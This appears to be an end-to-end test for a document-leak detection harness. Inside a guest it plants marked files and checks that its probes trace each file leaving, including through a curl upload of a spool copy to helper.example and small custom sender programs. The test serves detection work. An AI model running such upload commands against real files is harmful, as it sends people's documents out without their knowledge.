# SPDX-License-Identifier: Apache-2.0
"""Probes inside the guest tell how a document came to its destination: through the product's own helper, through a copy
in a spool folder and a tool that sends it, by a process that lives for some milliseconds; and what a program with a TLS
library built in gives to it. The disk's probe finds the copy that stayed behind, and who made it."""

import json
import os
import shutil
import sqlite3
import subprocess

from e2e import SOURCE, candor, check, check_equal, run_json, runs, scenario

QUICK = "/usr/local/bin/quick"
OWN_TLS = "/usr/local/bin/own-tls"
TIMES = 12
SHORT_MS = 20  # on slow machines; 4 to 9 elsewhere

# The product as it is, and one more file in the guest.
share = runs / "share"
product = share / "images/clamav-sender"
shutil.copytree(SOURCE / "images", share / "images")
for each in ("scenarios", "probes"):
    (share / each).symlink_to(SOURCE / each)
text = (SOURCE / "images" / product.name / "product.yaml").read_text()
for section, more in (("files", f"  {QUICK}: {{source: quick, mode: \"0755\"}}\n  {OWN_TLS}: {{source: own-tls, mode: \"0755\"}}"),
                      ("processes", f"  - {OWN_TLS}")):
    check_equal(text.count(f"\n{section}:\n"), 1, f"the product's {section}")
    text = text.replace(f"\n{section}:\n", f"\n{section}:\n{more}\n")
(product / "product.yaml").write_text(text)
subprocess.run(["cc", "-O2", "-static", "-nostdlib", "-ffreestanding", "-fno-stack-protector", "-o", product / "quick",
                SOURCE / "tests/support/guest/quick.c"], check=True)
subprocess.run(["cc", "-O2", "-static", "-o", product / "own-tls", SOURCE / "tests/support/guest/own_tls.c", "-lssl", "-lcrypto"],
               check=True, capture_output=True)
for sender in (["quick", "127.0.0.1", "9", "/etc/hostname"], ["own-tls", "localhost", "/etc/hostname"]):
    refused = subprocess.run([product / sender[0], *sender[1:]])
    check_equal(refused.returncode, 77, f"exit code of {sender[0]} outside a guest of the harness")
os.environ["CANDOR_SHARE"] = str(share)

code, verdict, folder = run_json(scenario(f"""about: Documents leave by four ways.
documents:
  memo: {{format: txt, marking: us/top-secret, to: /home/alex/Documents}}
  note: {{format: txt, marking: none, to: /srv/notes}}
  slip: {{format: txt, marking: none, to: /srv/slips}}
  list: {{format: txt, marking: none, to: /srv/lists}}
probes:
  files: {{required: true, deadline: 30s}}
  processes: {{required: true, deadline: 30s}}
  sockets: {{required: true, deadline: 30s}}
  plaintext: {{required: true, deadline: 30s}}
  disk: {{required: true, deadline: 60s}}
steps:
  - plant: [memo, note, slip, list]
  - scan: /home/alex/Documents
  - exec: mkdir /var/tmp/spool && cp /srv/notes/* /var/tmp/spool/outgoing
  - exec: sh -c "curl -sS -f --data-binary @/var/tmp/spool/outgoing https://helper.example/in; true"
  - exec: >-
      a=$(getent ahostsv4 quick.example | head -n 1 | cut -d ' ' -f 1); f=$(echo /srv/slips/*);
      for i in $(seq {TIMES}); do {QUICK} "$a" 80 "$f" || exit 1; done
  - exec: "{OWN_TLS} own-tls.example /srv/lists/*"
expect:
  opaque-bytes: 20000  # the quick ones do not wait for their answers, so their connections end by a reset
"""), "clamav-sender", "--seed", 3)
for step in verdict["steps"]:
    check(step["done"], f"step {step['index'] + 1} ({step['text']}): {step['detail']}")
check_equal((code, verdict["verdict"]), (1, "leak"), "exit code and verdict")
check(len(verdict["reasons"]) == 1 and "content/at-rest at /var/tmp/spool/outgoing" in verdict["reasons"][0],
      f"limits of completeness: {verdict['reasons']}")
for probe in verdict["probes"]:
    check(probe["finished"], f"{probe['name']} finished")
    check_equal((probe["missing"], probe["dropped"]), (0, 0), f"{probe['name']}: events that are missing, and dropped")


def chain_of(document, host):
    found = [f for f in verdict["findings"] if f["document"].startswith(document) and f["reach"] == "left"
             and f["destination"].startswith(host) and f["class"] == "content/whole-file"]
    check_equal(len(found), 1, f"findings of {document} at {host}: {verdict['findings']}")
    chain = found[0]["chain"]
    for link in chain["links"]:
        print(f"{document}: {link['at_s']:.4f} s ± {link['error_s'] * 1000:.2f} ms: {link['process']} (process {link['pid']},"
              f" by {' < '.join(link['started_by'])}) {link['act']} {link['object']}")
        check(link["error_s"] < 0.01, f"{document}: the time of {link} is known to 10 ms")
    # A program may well connect before it reads; what comes before is in order.
    times = [link["at_s"] for link in chain["links"][:-1]]
    check_equal(times, sorted(times), f"{document}: the links are in order of time")
    check_equal(chain["missing"], [], f"{document}: links that are missing")
    return chain["links"], found[0]


links, finding = chain_of("memo", "samples.sentinel-cloud.example")
check_equal([(link["act"], link["process"]) for link in links],
            [("read", "/usr/bin/curl"), ("connected to", "/usr/bin/curl")], "the product's own helper")
check("/usr/sbin/clamd" in links[0]["started_by"], f"curl leads back to the product: {links[0]['started_by']}")
check_equal(links[0]["object"], finding["path"], "what was read is the planted file")
check("samples.sentinel-cloud.example" in links[-1]["object"], f"where it went: {links[-1]}")
check(any("--form" in argument for argument in links[-1]["arguments"]), f"curl's arguments: {links[-1]['arguments']}")

links, finding = chain_of("note", "helper.example")
acts = [(link["act"], link["process"].rsplit("/", 1)[-1]) for link in links]
check(acts[0][1] == "cp" and acts[0][0] in ("read", "copied"), f"the first to take it: {acts}")
check_equal(acts[-2:], [("read", "curl"), ("connected to", "curl")], "who took the copy and sent it")
check("/var/tmp/spool/outgoing" in links[-2]["object"], f"the copy: {links[-2]}")
given = [f for f in verdict["findings"] if f["document"].startswith("note") and f["channel"] == "probe plaintext"]
check(given and "curl" in given[0]["chain"]["links"][0]["process"] + given[0]["chain"]["links"][-1]["process"],
      f"the same as given to TLS: {given}")

links, finding = chain_of("list", "own-tls.example")
check_equal([(link["act"], link["process"]) for link in links], [("read", OWN_TLS), ("connected to", OWN_TLS)], "with its own TLS")
given = [f for f in verdict["findings"] if f["document"].startswith("list") and f["channel"] == "probe plaintext"]
check(given and given[0]["destination"].startswith(OWN_TLS) and given[0]["reach"] == "left", f"what was given to it: {given}")

rest = [f for f in verdict["findings"] if f["class"] == "content/at-rest"]
check_equal([(f["document"].rsplit("-", 1)[0], f["destination"], f["reach"]) for f in rest],
            [("note", "/var/tmp/spool/outgoing (disk.file/1)", "kept")], "what stayed on the disk where nobody put it")
check(rest[0]["chain"]["links"][-1]["process"].endswith("/cp"), f"who put it there: {rest[0]['chain']}")

links, finding = chain_of("slip", "quick.example")
check_equal([(link["act"], link["process"]) for link in links], [("read", QUICK), ("connected to", QUICK)], "the quick one")

# How long each of the quick ones lived, and that none of them was overlooked.
with sqlite3.connect(folder / "events.sqlite") as store:
    events = [(kind, json.loads(data)) for kind, data in store.execute("SELECT type, data FROM events")]
quick = [d["process"] for kind, d in events if kind == "process.exec/1" and d["process"].get("program") == QUICK]
check_equal(len(quick), TIMES, "quick processes the probe saw")
keys = {(p["pid"], p["start_ns"]) for p in quick}
began = {(d["child"], d["child_start_ns"]): d["host_ns"] for kind, d in events if kind == "process.fork/1"}
ended = {(d["process"]["pid"], d["process"]["start_ns"]): d["host_ns"] for kind, d in events if kind == "process.exit/1"}
became = {(d["process"]["pid"], d["process"]["start_ns"]): d["host_ns"] for kind, d in events if kind == "process.exec/1"}
for since, what in ((began, "after they were made"), (became, "after they became this program")):
    lived = sorted((ended[key] - since[key]) / 1e6 for key in keys)
    print(f"they ended {', '.join(f'{each:.1f}' for each in lived)} ms {what}")
check(lived[0] < SHORT_MS, f"one of them lived less than {SHORT_MS} ms")
for kind in ("file.read/1", "socket.connect/1"):
    seen = {(d["process"]["pid"], d["process"]["start_ns"]) for k, d in events if k == kind}
    check(keys <= seen, f"each of them is seen by {kind}: {len(keys - seen)} are not")

rejudged = candor("rejudge", folder, "--json")
check_equal(rejudged.stdout, (folder / "verdict.json").read_text(), "judged again")
check("chain" in (folder / "report.txt").read_text(), "the report shows the chain")
